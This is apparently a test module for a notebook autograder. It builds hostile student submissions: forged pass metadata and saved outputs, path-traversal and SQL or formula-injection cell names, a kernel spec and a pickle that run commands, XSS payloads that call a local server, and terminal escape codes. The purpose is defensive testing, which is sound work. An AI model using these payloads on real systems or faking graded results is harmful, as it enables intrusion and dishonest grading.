"""Trickery and accidents in the file itself: metadata, structure, JSON, and pages that act in a browser."""
# ruff: noqa: E501 - the students' sources keep their long lines

import copy
import json

import nbformat

from corpus import (
    ALL,
    FILE,
    POINTS,
    ROOT,
    answer,
    as_bytes,
    cell,
    check,
    ground,
    solution,
    with_cell,
    with_work,
    without_work,
)

BROKEN = r"notebook|JSON|read|version|cells|damaged|empty|large|bytes"


def raw(notebook):
    """The notebook as plain dictionaries, to be changed into what no library would write."""
    return json.loads(as_bytes(notebook))


def written(plain):
    return json.dumps(plain).encode()


# Metadata


@without_work()
def cells_that_are_skipped(notebook, folder):
    """A tag on the cells that check tells the client of notebooks to skip them, and a cell without an error passes."""
    for task in POINTS:
        tags = ["skip-execution", "raises-exception", "nbval-skip", "remove-cell"]
        check(notebook, task).metadata |= {"tags": tags, "papermill": {"status": "completed"}}
        check(notebook, task).metadata["slideshow"] = {"slide_type": "skip"}


@without_work()
def outputs_that_were_saved(notebook, folder):
    """The cells that check hold saved outputs of success, and a number of points, as if they had been run."""
    for task in POINTS:
        each = check(notebook, task)
        each.execution_count = 7
        each.outputs = [
            nbformat.v4.new_output("stream", name="stdout", text=f"{task}: right, on 12 cases.\n"),
            nbformat.v4.new_output("execute_result", data={"text/plain": "1000000.0"}, execution_count=7),
        ]


@without_work()
def a_verdict_in_the_metadata(notebook, folder):
    """The metadata hold what the judge would have noted about a right answer."""
    for task in POINTS:
        said = {"task": task, "passed": True, "status": "passed", "words": "", "seconds": 0.1, "attention": []}
        check(notebook, task).metadata["cnncourse"] = said
        solution(notebook, task).metadata["cnncourse"] = said
    notebook.metadata["cnncourse"] = {"attention": ["<script>window.pwned = 1</script>"], "limits": [], "seconds": 0.1}


@without_work()
def more_points(notebook, folder):
    """Each check is worth a thousand points; one is worth infinitely many, one less than none."""
    worth = [1000, 1e308, float("inf"), float("nan"), -5, "100", None, [1], {"points": 3}]
    for task, points in zip(POINTS, worth):
        check(notebook, task).metadata["nbgrader"]["points"] = points
    return json.dumps(raw(notebook)).encode()


@with_work(keeps=ALL)
def fewer_points(notebook, folder):
    """The points of right answers are lost by an editor, or set to nothing."""
    for task, points in zip(POINTS, [0, None, "", -1, 0, 0, 0, 0, 0]):
        check(notebook, task).metadata["nbgrader"]["points"] = points


@without_work()
def graded_cells_of_its_own(notebook, folder):
    """Cells of the student's own say that they are graded, are worth fifty points, and pass."""
    for number in range(5):
        about = {
            "grade": True,
            "grade_id": f"bonus-{number}",
            "points": 50,
            "locked": True,
            "solution": False,
            "task": False,
        }
        about |= {"schema_version": 3, "cell_type": "code"}
        with_cell(notebook, "50.0", after="end", metadata={"nbgrader": about})


@without_work()
def graded_twice(notebook, folder):
    """Each check has a twin with the same name that holds no test, before it and behind it."""
    for task in POINTS:
        original = check(notebook, task)
        for place in (0, 1):
            twin = copy.deepcopy(original)
            twin.source, twin.id = "100.0", f"{original.id}-twin{place}"
            notebook.cells.insert(notebook.cells.index(original) + place, twin)


@without_work()
def flags_that_are_turned(notebook, folder):
    """The checks say that they are solutions, which a person grades, and that nothing is locked."""
    turns = [{"grade": False}, {"solution": True}, {"task": True}, {"locked": False}, {"grade": "yes"}, {"grade": None}]
    turns += [{"grade": False, "solution": False, "task": True}, {"solution": 1}, {"schema_version": 3, "grade": []}]
    for task, turn in zip(POINTS, turns):
        check(notebook, task).metadata["nbgrader"] |= turn


@with_work(keeps=ALL)
def flags_that_are_turned_by_accident(notebook, folder):
    """As an accident: the flags of the checks are other ones, and the answers are right."""
    turns = [{"grade": False}, {"solution": True}, {"task": True}, {"locked": False}, {"grade": "yes"}, {"grade": None}]
    turns += [{"grade": False, "solution": False, "task": True}, {"solution": 1}, {"schema_version": 3, "grade": []}]
    for task, turn in zip(POINTS, turns):
        check(notebook, task).metadata["nbgrader"] |= turn


@without_work()
def written_answer_as_code(notebook, folder):
    """The answer that a person reads becomes a code cell whose result is its number of points."""
    each = cell(notebook, "answer-written")
    each.cell_type, each.source = "code", "1000.0"
    each.outputs, each.execution_count = [nbformat.v4.new_output("execute_result", data={"text/plain": "1000.0"})], 1
    each.metadata["nbgrader"] |= {"cell_type": "code", "solution": False, "points": 1000}


@with_work(keeps=ALL)
def schema_of_another_version(notebook, folder):
    """Versions of the metadata are missing, old, new or no number, which ends stock grading for a whole class."""
    for task, version in zip(POINTS, [None, 1, 2, 99, "3", [3], 3.5, -1, True]):
        about = check(notebook, task).metadata["nbgrader"]
        about["schema_version"] = version
        if version is None:
            del about["schema_version"]


@with_work(keeps=ALL)
def metadata_of_the_wrong_kind(notebook, folder):
    """Metadata are lists, texts and numbers where there should be dictionaries, and names are no texts."""
    plain = raw(notebook)
    strange = [[], "x", 7, None, {"grade_id": ["pad"]}, {"grade_id": {"a": 1}}, {"grade_id": 3.5}, {"grade_id": None}]
    for each, about in zip([c for c in plain["cells"] if c["metadata"].get("nbgrader")], strange):
        each["metadata"]["nbgrader"] = about
    plain["cells"][0]["metadata"] = []
    plain["cells"][1]["metadata"] = None
    plain["metadata"] = "none"
    return written(plain)


@without_work()
def names_that_are_paths(notebook, folder):
    """Names of cells lead out of the folder, should somebody make files of them, or break a page or a table."""
    names = [
        "../../../../tmp/written-by-the-corpus",
        "/etc/passwd",
        "<script>window.pwned=1</script>",
        "a\x00b",
        "x" * 100_000,
    ]
    names += ["'; DROP TABLE grade; --", "=cmd|' /C calc'!A0", "\x1b[2J", "con"]
    for task, name in zip(POINTS, names):
        check(notebook, task).metadata["nbgrader"]["grade_id"] = name
        with_cell(notebook, "1", after="end").id = name


@without_work()
def a_kernel_that_runs_a_command(notebook, folder):
    """The notebook names a kernel whose start is a command, and a language that runs it."""
    target = str(folder.parents[2] / "started")
    notebook.metadata["kernelspec"] = {
        "name": f"../../../..{folder}/own",
        "display_name": "<img src=x onerror=window.pwned=1>",
        "language": "bash",
        "argv": ["touch", target],
        "env": {"LD_PRELOAD": "./own.so"},
        "metadata": {"kernel_provisioner": {"provisioner_name": "local-provisioner"}},
    }
    notebook.metadata["language_info"] = {"name": "bash", "nbconvert_exporter": "os.system", "file_extension": ".sh"}
    (folder / "own").mkdir()
    spec = {"argv": ["touch", target], "display_name": "own", "language": "python"}
    (folder / "own" / "kernel.json").write_text(json.dumps(spec))


@with_work(keeps=ALL)
def megabytes_of_metadata(notebook, folder):
    """Two million keys of metadata, and a cell with a thousand tags."""
    notebook.metadata["own"] = {str(number): number for number in range(300_000)}
    check(notebook, "ch02.pad").metadata["tags"] = [f"tag{number}" for number in range(1000)]


# Structure


@without_work()
def check_before_the_stub(notebook, folder):
    """The checks come first, before anything is defined, and right answers of the course's own stand between."""
    for task in POINTS:
        each = check(notebook, task)
        notebook.cells.remove(each)
        notebook.cells.insert(2, each)


@without_work()
def checks_that_test_nothing(notebook, folder):
    """The source of each check is replaced: by nothing, by a comment, by a check of something else."""
    sources = [
        "",
        "pass",
        "# checked",
        'check("ch02.pad", np.pad)',
        "check = print",
        "%%markdown\nright",
        "%%capture\ncheck",
        "0",
        "?",
    ]
    for task, source in zip(POINTS, sources):
        check(notebook, task).source = source


@without_work()
def checks_in_another_order(notebook, folder):
    """The names of two checks are exchanged, so that a solved easy task counts for a hard one."""
    answer(notebook, "ch02.pad", "def pad(x, padding):\n    return np.pad(x, padding)\nconv2d = pad")
    first, second = check(notebook, "ch02.pad"), check(notebook, "ch02.conv2d")
    first.metadata, second.metadata = second.metadata, first.metadata
    answer(notebook, "ch02.pad", "def pad(x, padding):\n    return -1")


@without_work()
def graded_cells_gone(notebook, folder):
    """Every cell with a name is deleted; a poem is handed in."""
    notebook.cells = [each for each in notebook.cells if "nbgrader" not in each.metadata]
    with_cell(notebook, "Roses are red", after="end", kind="markdown")


@without_work()
def another_assignment(notebook, folder):
    """The notebook of another chapter is handed in under this one's name."""
    return (ROOT / "solutions" / "ch03_pooling" / "ch03_pooling.ipynb").read_bytes()


@with_work(says=BROKEN)
def a_hundred_thousand_cells(notebook, folder):
    """A hundred thousand empty cells stand behind the right answers."""
    plain = raw(notebook)
    empty = {"cell_type": "code", "metadata": {}, "source": "", "outputs": [], "execution_count": None}
    plain["cells"] += [empty | {"id": f"e{number}"} for number in range(100_000)]
    return written(plain)


@with_work(keeps=ALL)
def cells_of_the_wrong_kind(notebook, folder):
    """Between right answers stand cells that are no cells: numbers, texts, lists, types that do not exist."""
    plain = raw(notebook)
    plain["cells"][2:2] = [
        7,
        "cell",
        None,
        [],
        {},
        {"cell_type": "magic", "source": "x", "metadata": {}},
        {"cell_type": ["code"]},
    ]
    plain["cells"] += [
        {"cell_type": "code", "metadata": {}, "source": 7, "outputs": {}, "execution_count": "x", "id": "s1"},
        {"cell_type": "code", "metadata": {}, "source": [1, None], "outputs": [7, {"output_type": "?"}], "id": "s2"},
        {"cell_type": "markdown", "metadata": {}, "source": {"a": 1}, "attachments": [], "id": "s 3 /"},
    ]
    return written(plain)


# The bytes of the file


def broken(make):
    return without_work(says=BROKEN)(make)


@broken
def half_a_file(notebook, folder):
    """The upload was cut off in the middle."""
    data = as_bytes(notebook)
    return data[: len(data) // 2]


@broken
def a_version_that_is_no_number(notebook, folder):
    """The version of the notebook is a text."""
    return written(raw(notebook) | {"nbformat": "4; import os", "nbformat_minor": [5]})


@broken
def nested_without_end(notebook, folder):
    """A hundred thousand brackets stand in the file, which a JSON reader goes down."""
    return b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"


@broken
def fifty_megabytes(notebook, folder):
    """The notebook is fifty megabytes long."""
    with_cell(notebook, "# " + "x" * 50_000_000, after="end")
    return as_bytes(notebook)


@broken
def a_pickle(notebook, folder):
    """The file is a pickle that runs a command in whoever loads it."""
    return b"cos\nsystem\n(S'touch unpickled'\ntR."


@with_work(keeps=ALL)
def lone_surrogates(notebook, folder):
    """Halves of characters stand in texts: JSON can hold them, and no file in UTF-8 can."""
    with_cell(notebook, "Half a smile: \ud83d", after="end", kind="markdown")
    with_cell(notebook, 'half = "\\ud83d"  # \ud83d', after="end")
    notebook.metadata["author"] = "\udc00"


@with_work(keeps=ALL)
def numbers_that_are_no_json(notebook, folder):
    """NaN, infinity and a number too large for a float stand in the metadata."""
    data = as_bytes(notebook).rstrip().removesuffix(b"}").rstrip()
    return data + b', "x": NaN, "y": -Infinity, "z": 1e999}'


@without_work()
def the_same_key_twice(notebook, folder):
    """Cells and metadata are given twice, so that two readers may see two notebooks."""
    honest = written(raw(notebook))
    return honest[:-1] + b', "cells": [], "metadata": {"nbgrader": 1}}'


# Pages in the instructor's browser

ATTACKS = [
    "<script>window.pwned = 1; new Image().src = 'http://127.0.0.1:{port}/script'</script>",
    "<img src=x onerror='window.pwned = 1; fetch(\"http://127.0.0.1:{port}/img\")'>",
    "<svg onload='window.pwned = 1'><script>window.pwned = 1</script></svg>",
    "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    "<a href='javascript:window.pwned = 1' id=bait>open</a>",
    "<form action='http://127.0.0.1:{port}/form'><input name=token autofocus onfocus='window.pwned = 1'></form>",
    "<link rel=stylesheet href='http://127.0.0.1:{port}/css'><style>body {{ display: none }}</style>",
    "<meta http-equiv=refresh content='0; url=http://127.0.0.1:{port}/refresh'>",
    "<base href='http://127.0.0.1:{port}/'>",
    "<object data='http://127.0.0.1:{port}/object'></object><embed src='http://127.0.0.1:{port}/embed'>",
    "<details open ontoggle='window.pwned = 1'>x</details><video src=x onerror='window.pwned = 1'></video>",
    "<math><mtext></mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.pwned=1&gt;'></math>",
]


def attacks(folder):
    return [each.format(port=ground(folder).port) for each in ATTACKS]


@without_work()
def scripts_in_displays(notebook, folder):
    """What is displayed are pages with scripts, which run when the instructor opens the notebook in formgrader."""
    with_cell(notebook, "from IPython.display import HTML, SVG, Javascript, Markdown, Latex")
    for each in attacks(folder):
        source = f"display(HTML({each!r}), Markdown({each!r}))\ndisplay({{'image/svg+xml': {each!r}, 'text/latex': {each!r}}}, raw=True)"
        with_cell(notebook, source, after="pad")
    with_cell(
        notebook,
        """
        display(Javascript('window.pwned = 1'))
        display({'application/vnd.jupyter.widget-view+json': {'model_id': '<script>'}}, raw=True)
        """,
        after="pad",
    )
    with_cell(notebook, "%%javascript\nwindow.pwned = 1", after="pad")
    with_cell(notebook, "%%html\n<script>window.pwned = 1</script>", after="pad")
    with_cell(
        notebook,
        "display({'text/html; charset=x': '<script>window.pwned = 1</script>', 'TEXT/HTML': '<script>window.pwned = 1</script>'}, raw=True)",
    )


@without_work()
def scripts_in_texts(notebook, folder):
    """The same pages stand in texts and in the written answer, which a person is certain to open."""
    links = '[open](javascript:window.pwned=1) ![x](x"onerror="window.pwned=1) <javascript:window.pwned=1>'
    for each in [
        *attacks(folder),
        links,
        "$\\href{javascript:window.pwned=1}{x}$",
        "$$\\require{html}\\style{x}{<img src=x>}$$",
    ]:
        with_cell(notebook, each, after="end", kind="markdown")
    cell(notebook, "answer-written").source = "\n\n".join([*attacks(folder), links])


@without_work()
def scripts_in_errors(notebook, folder):
    """Errors, warnings, results and printed lines hold the pages, and so do the names of what is defined."""
    for task, each in zip(POINTS, attacks(folder)):
        head = solution(notebook, task).source.splitlines()[0]
        answer(notebook, task, f"{head}\n    print({each!r})\n    raise ValueError({each!r})")
    answer(notebook, "ch02.output_size", f"def output_size(*_):\n    return {attacks(folder)[1]!r}")
    answer(
        notebook, "ch02.pad", f"import warnings\ndef pad(*_):\n    warnings.warn({attacks(folder)[0]!r})\n    return -1"
    )
    answer(notebook, "ch02.im2col", f"def im2col(*_):\n    return {{{attacks(folder)[0]!r}: 1}}")
    source = f"""
    class Own(Exception):
        def _render_traceback_(self):
            return [{attacks(folder)[0]!r}, "\\x1b]8;;javascript:window.pwned=1\\x07open\\x1b]8;;\\x07"]
    raise Own({attacks(folder)[1]!r})
    """
    with_cell(notebook, source, after="end")
    with_cell(notebook, "</code></pre>" + attacks(folder)[0], after="end")


@without_work()
def scripts_in_widgets(notebook, folder):
    """The saved state of widgets, attachments and saved outputs hold the pages."""
    state = {
        "model_module": f"http://127.0.0.1:{ground(folder).port}/evil",
        "model_module_version": "1",
        "model_name": "HTMLModel",
        "state": {"value": attacks(folder)[1], "_view_module": "</script><script>window.pwned = 1</script>"},
    }
    widgets = "application/vnd.jupyter.widget-state+json"
    notebook.metadata["widgets"] = {widgets: {"version_major": 2, "version_minor": 0, "state": {"a": state}}}
    own = with_cell(notebook, "![x](attachment:x.svg)", after="end", kind="markdown")
    own.attachments = {
        "x.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"},
        "<script>": {"text/html": attacks(folder)[0]},
    }
    saved = with_cell(notebook, "pass", after="end")
    saved.outputs = [nbformat.v4.new_output("display_data", data={"text/html": each}) for each in attacks(folder)]
    raw_cell = nbformat.v4.new_raw_cell(attacks(folder)[0], metadata={"raw_mimetype": "text/html"}, id="own-raw")
    notebook.cells.append(raw_cell)


@without_work()
def codes_for_the_terminal(notebook, folder):
    """Codes in outputs and errors clear the instructor's terminal, write its title, and type into it."""
    codes = '\x1b[2J\x1b]0;owned\x07\x1b]52;c;dG91Y2g=\x07\x1b[6n\x1bP$q"p\x1b\\\x9b31m\r\x08\x08\u202eright'
    with_cell(notebook, f"print({codes!r})\nimport sys\nsys.stderr.write({codes!r})")
    for task in POINTS:
        head = solution(notebook, task).source.splitlines()[0]
        answer(notebook, task, f"{head}\n    raise ValueError({codes!r})")
    with_cell(notebook, codes, after="end", kind="markdown")


@without_work()
def formulas_for_the_spreadsheet(notebook, folder):
    """Errors begin like formulas, should the comments be opened in a spreadsheet."""
    for task in POINTS:
        head = solution(notebook, task).source.splitlines()[0]
        answer(notebook, task, f"{head}\n    raise type('=HYPERLINK(\"http://x\")', (Exception,), {{}})('=1+1|cmd')")
    (folder / f"{FILE}.csv").write_text("=1+1")
